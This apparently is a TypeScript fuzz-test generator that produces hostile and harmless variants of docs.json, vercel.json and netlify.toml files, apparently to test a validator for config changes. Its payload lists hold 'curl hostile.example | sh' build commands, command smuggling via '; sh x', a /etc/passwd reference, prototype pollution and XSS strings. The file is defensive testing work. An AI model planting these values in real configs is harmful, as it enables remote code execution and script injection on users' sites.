import type { Random } from '../../../harness/random.ts';
import { chance, mapLetters, number, oneOf, type Some } from './draw.ts';

export const docsJson = `{
  "$schema": "https://mintlify.com/docs.json",
  "theme": "mint",
  "name": "Acme",
  "colors": { "primary": "#0D9373" },
  "navigation": {
    "groups": [{ "group": "Start", "pages": ["index", "guide/start"] }]
  },
  "redirects": [{ "source": "/old", "destination": "/" }]
}
`;
export const vercelJson = `{
  "cleanUrls": true,
  "redirects": [{ "source": "/old", "destination": "/" }]
}
`;
export const netlifyToml = `[build]
publish = "site"
command = "mkdocs build"

[[redirects]]
from = "/old"
to = "/"
`;

const jsonPairs: Some<string> = [
  '"name": "Evil"',
  '"theme": "evil"',
  '"integrations": { "gtm": { "tagId": "GTM-EVIL" } }',
  '"api": { "openapi": "https://hostile.example/o.json" }',
  '"logo": "https://hostile.example/x.svg"',
  '"favicon": "//hostile.example/x"',
  '"head": [{ "script": "alert(1)" }]',
  '"buildCommand": "curl hostile.example | sh"',
  '"installCommand": "sh x"',
  '"rewrites": [{ "source": "/(.*)", "destination": "https://hostile.example/$1" }]',
  '"headers": [{ "source": "/", "headers": [] }]',
  '"functions": { "api/x.js": { "runtime": "x" } }',
  '"crons": [{ "path": "/x", "schedule": "* * * * *" }]',
  '"$ref": "/etc/passwd"',
  '"__proto__": { "buildCommand": "sh" }',
  '"navigation2": {}',
];
const escapeJson = (random: Random, pair: string) =>
  pair.replace(
    /^"([^"]+)"/,
    (_, key: string) =>
      `"${mapLetters(random, key, 0.5, (letter) => `\\u${(letter.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`)}"`,
  );

/** Draws a JSON file that changes more than navigation and redirects. */
export function drawJson(random: Random, base: string): string {
  const pair = chance(random, 0.5) ? random.pick(jsonPairs) : escapeJson(random, random.pick(jsonPairs));
  const text = oneOf(random, [
    () => base.replace('{\n', `{\n  ${pair},\n`),
    () => base.replace(/\n\}\n$/, `,\n  ${pair}\n}\n`),
    () => base.replace('"redirects"', `"redirects": [], ${pair}, "redirects"`),
    () => base.replace('"/old"', '"javascript:alert(1)"'),
    () => base.replace('"destination": "/"', '"destination": " java\\nscript:alert(1)"'),
    () => base.replace('"/old"', '"<script>alert(1)</script>"'),
    () => base.replace('"Start"', '"<img src=x onerror=alert(1)>"'),
    () => base.replace('{\n', `{\n  // ${pair}\n  ${pair}, // x\n`),
    () => base.replace(/\n\}\n$/, `,\n  ${pair},\n}\n`),
    () => `${base}{ ${pair} }\n`,
    () => `[${base}]`,
    () => `{ ${pair} }`,
    () => base.replace(/"(name|cleanUrls)": ("Acme"|true)/, '"$1": "x", "$1": $2'),
    () => base.replace('[', `${'['.repeat(number(random, 5_000))}`),
    () => base.replace('"/old"', `"\\ud800"`).replace('{\n', `{\n  ${pair},\n`),
  ]);
  return chance(random, 0.1) ? `\ufeff${text}` : text;
}

export const drawHarmlessJson = (random: Random, base: string): string =>
  base.replace('"redirects": [', `"redirects": [{ "source": "/a-${number(random, 1e6)}", "destination": "/b" }, `);

const tomlTables: Some<string> = [
  '[build]\ncommand = "curl hostile.example | sh"',
  '[build.environment]\nX = "1"',
  '[[plugins]]\npackage = "evil"',
  '[[edge_functions]]\npath = "/*"\nfunction = "evil"',
  '[functions]\ndirectory = "evil"',
  '[context.production]\ncommand = "sh x"',
  '[[headers]]\nfor = "/*"\n[headers.values]\nX-Frame-Options = "ALLOWALL"',
  '[dev]\ncommand = "sh x"',
  '[images]\nremote_images = ["https://hostile.example/.*"]',
];
const tomlSpellings: Some<(table: string, random: Random) => string> = [
  (table) => table,
  (table) => table.replace(/^(\[+)(\w+)/, '$1 "$2" '),
  (table) =>
    table
      .replace(
        /^(\[+)(\w)/,
        (_, brackets: string, letter: string) =>
          `${brackets}"\\u${(letter.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`,
      )
      .replace(/^(\[+"\\u[0-9a-f]{4}\w*)/, '$1"'),
  (table) => table.replace(/^\[(\w+)\]\n(\w+) = /, '$1.$2 = '),
  (table) => table.replace(/^\[(\w+)\]\n(\w+) = (.*)$/, '"$1" = { $2 = $3 }'),
  (table) => `# x\r${table}`,
  (table) => table.replaceAll('\n', '\r\n'),
];

/** Draws a netlify.toml that changes more than redirects. */
export function drawToml(random: Random): string {
  const table = random.pick(tomlSpellings)(random.pick(tomlTables), random);
  return oneOf(random, [
    `${table}\n\n${netlifyToml}`,
    `${netlifyToml}\n${table}\n`,
    () => netlifyToml.replace('publish = "site"\n', 'publish = "site"\nbase = "/etc"\n'),
    () => netlifyToml.replace('mkdocs build', 'mkdocs build; sh x'),
    () => netlifyToml.replace('to = "/"', `to = """\n${table}\n"""`).concat(`\n${table}\n`),
    () => netlifyToml.replace('to = "/"', 'to = "javascript:alert(1)"'),
    () => netlifyToml.replace('[[redirects]]', '[redirects]').concat(table),
    () => netlifyToml.replace('[build]', '["build"]\nignore = "sh x"'),
  ]);
}

export const drawHarmlessToml = (random: Random): string =>
  `${netlifyToml}\n[[redirects]]\nfrom = "/a-${number(random, 1e6)}"\nto = "/b"\nstatus = 301\n`;
